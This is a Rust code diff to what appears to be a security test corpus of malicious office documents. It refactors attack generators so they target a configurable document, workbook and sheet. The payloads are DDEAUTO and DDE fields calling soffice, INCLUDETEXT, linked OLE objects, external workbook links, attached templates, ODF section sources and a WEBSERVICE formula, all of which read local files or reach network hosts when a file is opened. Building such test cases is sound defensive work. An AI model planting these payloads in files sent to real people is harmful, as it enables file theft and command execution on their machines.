@@ -12,10 +12,15 @@ pub struct Attack {
 }
 
 /// What an attack aims at.
+#[derive(Default)]
 pub struct Aim {
     pub http: String,
     pub text: String,
     pub picture: String,
+    pub document: String,
+    /// A workbook, and the name of one of its sheets.
+    pub workbook: String,
+    pub sheet: String,
     pub folder: String,
 }
 
@@ -93,7 +98,7 @@ pub const ATTACKS: &[Attack] = &[
     Attack {
         name: "INCLUDETEXT of a document",
         kind: "docx",
-        make: |aim| word(&field(&format!("INCLUDETEXT \"{}secret.docx\"", aim.folder)), &[], &[]),
+        make: |aim| word(&field(&format!("INCLUDETEXT \"{}\"", aim.document)), &[], &[]),
     },
     Attack {
         name: "DDE field",
@@ -101,7 +106,7 @@ pub const ATTACKS: &[Attack] = &[
         make: |aim| {
             word(
                 &[
-                    field(&format!("DDEAUTO soffice \"{}secret.docx\" a", aim.folder)),
+                    field(&format!("DDEAUTO soffice \"{}\" a", aim.document)),
                     field(&format!("DDE soffice \"{}\" a", aim.text)),
                 ]
                 .concat(),
@@ -124,10 +129,7 @@ pub const ATTACKS: &[Attack] = &[
         name: "attached template of the machine",
         kind: "docx",
         make: |aim| {
-            word_settings(
-                "<w:attachedTemplate r:id=\"r1\"/>",
-                &[("attachedTemplate", &format!("{}secret.docx", aim.folder))],
-            )
+            word_settings("<w:attachedTemplate r:id=\"r1\"/>", &[("attachedTemplate", &aim.document)])
         },
     },
     Attack {
@@ -169,13 +171,7 @@ pub const ATTACKS: &[Attack] = &[
     Attack {
         name: "sub-document",
         kind: "docx",
-        make: |aim| {
-            word(
-                "<w:p><w:subDoc r:id=\"r1\"/></w:p>",
-                &[("subDocument", &format!("{}secret.docx", aim.folder))],
-                &[],
-            )
-        },
+        make: |aim| word("<w:p><w:subDoc r:id=\"r1\"/></w:p>", &[("subDocument", &aim.document)], &[]),
     },
     Attack {
         name: "linked OLE object",
@@ -183,7 +179,7 @@ pub const ATTACKS: &[Attack] = &[
         make: |aim| {
             word(
                 "<w:p><w:r><w:object><v:shape style=\"width:200pt;height:200pt\"/><o:OLEObject Type=\"Link\" ProgID=\"Excel.Sheet.12\" ShapeID=\"s\" DrawAspect=\"Content\" r:id=\"r1\" UpdateMode=\"Always\"/></w:object></w:r></w:p>",
-                &[("oleObject", &format!("{}secret.xlsx", aim.folder))],
+                &[("oleObject", &aim.workbook)],
                 &[],
             )
         },
@@ -231,7 +227,10 @@ pub const ATTACKS: &[Attack] = &[
     Attack {
         name: "formula to another file",
         kind: "xlsx",
-        make: |aim| sheet(&formula(&format!("'{}[secret.xlsx]One'!$A$1", aim.folder)), "", &[], &[]),
+        make: |aim| {
+            let (folder, name) = aim.workbook.rsplit_once('/').unwrap();
+            sheet(&formula(&format!("'{folder}/[{name}]{}'!$A$1", aim.sheet)), "", &[], &[])
+        },
     },
     Attack {
         name: "linked workbook",
@@ -239,8 +238,8 @@ pub const ATTACKS: &[Attack] = &[
         make: |aim| {
             linked(
                 aim,
-                "<externalBook r:id=\"r1\"><sheetNames><sheetName val=\"One\"/></sheetNames></externalBook>",
-                "[1]One!$A$1",
+                "<externalBook r:id=\"r1\"><sheetNames><sheetName val=\"SHEET\"/></sheetNames></externalBook>",
+                "[1]SHEET!$A$1",
             )
         },
     },
@@ -249,15 +248,14 @@ pub const ATTACKS: &[Attack] = &[
         kind: "xlsx",
         make: |aim| {
             let elsewhere = Aim {
-                folder: format!("{}/", aim.http),
-                http: String::new(),
-                text: String::new(),
-                picture: String::new(),
+                workbook: format!("{}/secret.xlsx", aim.http),
+                sheet: aim.sheet.clone(),
+                ..Aim::default()
             };
             linked(
                 &elsewhere,
-                "<externalBook r:id=\"r1\"><sheetNames><sheetName val=\"One\"/></sheetNames></externalBook>",
-                "[1]One!$A$1",
+                "<externalBook r:id=\"r1\"><sheetNames><sheetName val=\"SHEET\"/></sheetNames></externalBook>",
+                "[1]SHEET!$A$1",
             )
         },
     },
@@ -277,7 +275,7 @@ pub const ATTACKS: &[Attack] = &[
         kind: "xlsx",
         make: |aim| {
             sheet(
-                &formula(&format!("DDE(\"soffice\",\"{}secret.xlsx\",\"One.A1\")", aim.folder)),
+                &formula(&format!("DDE(\"soffice\",\"{}\",\"{}.A1\")", aim.workbook, aim.sheet)),
                 "",
                 &[],
                 &[],
@@ -331,7 +329,7 @@ pub const ATTACKS: &[Attack] = &[
         make: |aim| {
             slide(
                 "<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id=\"9\" name=\"o\"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"3000000\" cy=\"3000000\"/></p:xfrm><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/presentationml/2006/ole\"><p:oleObj name=\"w\" r:id=\"r1\" progId=\"Excel.Sheet.12\"><p:link updateAutomatic=\"1\"/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>",
-                &[("oleObject", &format!("{}secret.xlsx", aim.folder))],
+                &[("oleObject", &aim.workbook)],
             )
         },
     },
@@ -342,8 +340,8 @@ pub const ATTACKS: &[Attack] = &[
             open_document(
                 "text",
                 &format!(
-                    "<text:section text:name=\"s\"><text:section-source xlink:href=\"{0}secret.docx\" xlink:type=\"simple\"/><text:p>own text</text:p></text:section><text:section text:name=\"t\"><text:section-source xlink:href=\"{1}\" text:filter-name=\"Text\"/><text:p/></text:section><text:section text:name=\"u\"><text:section-source xlink:href=\"{2}/l.odt\"/><text:p/></text:section>",
-                    aim.folder, aim.text, aim.http
+                    "<text:section text:name=\"s\"><text:section-source xlink:href=\"{0}\" xlink:type=\"simple\"/><text:p>own text</text:p></text:section><text:section text:name=\"t\"><text:section-source xlink:href=\"{1}\" text:filter-name=\"Text\"/><text:p/></text:section><text:section text:name=\"u\"><text:section-source xlink:href=\"{2}/l.odt\"/><text:p/></text:section>",
+                    aim.document, aim.text, aim.http
                 ),
                 "",
                 &[],
@@ -372,8 +370,8 @@ pub const ATTACKS: &[Attack] = &[
             open_document(
                 "text",
                 &format!(
-                    "<text:p>own text<draw:frame svg:width=\"9cm\" svg:height=\"9cm\"><draw:floating-frame xlink:href=\"{}\" xlink:type=\"simple\" xlink:actuate=\"onLoad\"/></draw:frame><draw:frame svg:width=\"9cm\" svg:height=\"9cm\"><draw:object xlink:href=\"{}secret.xlsx\" xlink:type=\"simple\" xlink:actuate=\"onLoad\"/></draw:frame></text:p>",
-                    aim.text, aim.folder
+                    "<text:p>own text<draw:frame svg:width=\"9cm\" svg:height=\"9cm\"><draw:floating-frame xlink:href=\"{}\" xlink:type=\"simple\" xlink:actuate=\"onLoad\"/></draw:frame><draw:frame svg:width=\"9cm\" svg:height=\"9cm\"><draw:object xlink:href=\"{}\" xlink:type=\"simple\" xlink:actuate=\"onLoad\"/></draw:frame></text:p>",
+                    aim.text, aim.workbook
                 ),
                 "",
                 &[],
@@ -388,8 +386,8 @@ pub const ATTACKS: &[Attack] = &[
             open_document(
                 "spreadsheet",
                 &format!(
-                    "<table:table table:name=\"T\"><table:table-source xlink:href=\"{0}secret.xlsx\" xlink:type=\"simple\" xlink:actuate=\"onRequest\" table:table-name=\"One\"/><table:table-row><table:table-cell><text:p>own text</text:p></table:table-cell><table:table-cell table:formula=\"of:='{0}secret.xlsx'#$One.A1\"/><table:table-cell table:formula=\"of:=WEBSERVICE(&quot;{1}/n&quot;)\"/></table:table-row></table:table>",
-                    aim.folder, aim.http
+                    "<table:table table:name=\"T\"><table:table-source xlink:href=\"{0}\" xlink:type=\"simple\" xlink:actuate=\"onRequest\" table:table-name=\"{2}\"/><table:table-row><table:table-cell><text:p>own text</text:p></table:table-cell><table:table-cell table:formula=\"of:='{0}'#${2}.A1\"/><table:table-cell table:formula=\"of:=WEBSERVICE(&quot;{1}/n&quot;)\"/></table:table-row></table:table>",
+                    aim.workbook, aim.http, aim.sheet
                 ),
                 "",
                 &[],
@@ -407,11 +405,12 @@ pub const ATTACKS: &[Attack] = &[
 
 /// An Excel file with one link and a formula that uses it.
 fn linked(aim: &Aim, link: &str, used: &str) -> Vec<u8> {
-    let parts = external_link(link, &format!("{}secret.xlsx", aim.folder));
+    let [link, used] = [link, used].map(|text| text.replace("SHEET", &aim.sheet));
+    let parts = external_link(&link, &aim.workbook);
     let parts: Vec<(&str, &[u8])> =
         parts.iter().map(|(path, part)| (path.as_str(), part.as_bytes())).collect();
     let book = "<externalReferences><externalReference r:id=\"r2\"/></externalReferences>";
-    sheet(&formula(used), book, &[("externalLink", "externalLinks/externalLink1.xml")], &parts)
+    sheet(&formula(&used), book, &[("externalLink", "externalLinks/externalLink1.xml")], &parts)
 }
 
 /// Runs a Basic macro when it is opened, which writes a file and asks the network.
